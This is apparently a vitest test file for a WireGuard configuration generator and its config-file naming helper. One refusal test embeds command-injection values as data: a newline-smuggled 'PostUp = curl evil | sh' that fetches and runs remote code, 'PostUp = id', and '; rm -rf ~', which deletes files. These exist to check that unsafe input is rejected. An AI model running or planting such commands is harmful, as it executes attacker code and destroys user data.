import { describe, expect, it } from "vitest";
import {
  configFileName,
  OWN_PRIVATE_KEY,
  type PeerBlock,
  UnsafeConfigError,
  wireguardConfig,
} from "./wireguard-config.js";

const PRIVATE = "YCx4Fh4Xf6Zz8Vq3mB2Gq1m0rP5y7Kc6Zq9x0Wn8t2E=";
const SERVER = "xTIBA5rboUvnH4htodjb6e697QjLERt1NAB4mZqp8Dg=";

const block = (overrides: { interface?: Partial<PeerBlock["interface"]>; peer?: Partial<PeerBlock["peer"]> } = {}) => ({
  interface: {
    addresses: ["10.64.0.7/32", "fd00:7665:696c::7/128"],
    dns: ["10.64.0.1", "fd00:7665:696c::1"],
    ...overrides.interface,
  },
  peer: { publicKey: SERVER, endpoint: "demo.veil.test:51820", allowedIps: ["0.0.0.0/0", "::/0"], ...overrides.peer },
});

describe("wireguardConfig", () => {
  it("assembles the .conf from the browser's private key and the server's peer block", () => {
    expect(wireguardConfig(PRIVATE, block())).toBe(
      [
        "[Interface]",
        `PrivateKey = ${PRIVATE}`,
        "Address = 10.64.0.7/32, fd00:7665:696c::7/128",
        "DNS = 10.64.0.1, fd00:7665:696c::1",
        "",
        "[Peer]",
        `PublicKey = ${SERVER}`,
        "AllowedIPs = 0.0.0.0/0, ::/0",
        "Endpoint = demo.veil.test:51820",
        "",
      ].join("\n"),
    );
  });

  it("leaves DNS out when the server names none", () => {
    expect(wireguardConfig(PRIVATE, block({ interface: { dns: [] } }))).not.toContain("DNS");
  });

  it("accepts IPv4 and bracketed IPv6 endpoints", () => {
    expect(wireguardConfig(PRIVATE, block({ peer: { endpoint: "203.0.113.5:51820" } }))).toContain(
      "Endpoint = 203.0.113.5:51820",
    );
    expect(wireguardConfig(PRIVATE, block({ peer: { endpoint: "[2001:db8::1]:51820" } }))).toContain(
      "Endpoint = [2001:db8::1]:51820",
    );
  });

  it.each([
    ["an endpoint that smuggles a PostUp command", { peer: { endpoint: "x.test:51820\nPostUp = curl evil | sh" } }],
    ["an address with a second line", { interface: { addresses: ["10.64.0.7/32\nPostUp = id"] } }],
    ["a DNS entry that is not an IP", { interface: { dns: ["1.1.1.1; rm -rf ~"] } }],
    ["allowed IPs that are not CIDR", { peer: { allowedIps: ["everything"] } }],
    ["a server key that is not a key", { peer: { publicKey: "abc" } }],
    ["no addresses", { interface: { addresses: [] } }],
    ["an endpoint without a port", { peer: { endpoint: "demo.veil.test" } }],
  ])("refuses %s", (_, overrides) => {
    expect(() => wireguardConfig(PRIVATE, block(overrides as never))).toThrow(UnsafeConfigError);
  });

  it("leaves a placeholder for the private key of a customer who brought their own key", () => {
    const text = wireguardConfig(OWN_PRIVATE_KEY, block());
    expect(text).toContain("PrivateKey = <your private key>\n");
    expect(text).toContain(`PublicKey = ${SERVER}`);
  });

  it("refuses a private key that is not one", () => {
    expect(() => wireguardConfig("not-a-key", block())).toThrow(UnsafeConfigError);
  });
});

describe("configFileName", () => {
  it("names the file after the device, as a valid tunnel name (at most 15 characters)", () => {
    expect(configFileName("Happy Seagull", "a1b2")).toBe("veil-happy-seag.conf");
    expect(configFileName("Happy Seagull", "a1b2").replace(/\.conf$/, "")).toMatch(/^[A-Za-z0-9_=+.-]{1,15}$/);
  });

  it("falls back to the device id for a name without Latin letters", () => {
    expect(configFileName("Весёлая чайка", "0f8e2c1a-9b7d-4e3f-8a6b-5c4d3e2f1a0b")).toBe("veil-0f8e2c1a.conf");
  });
});
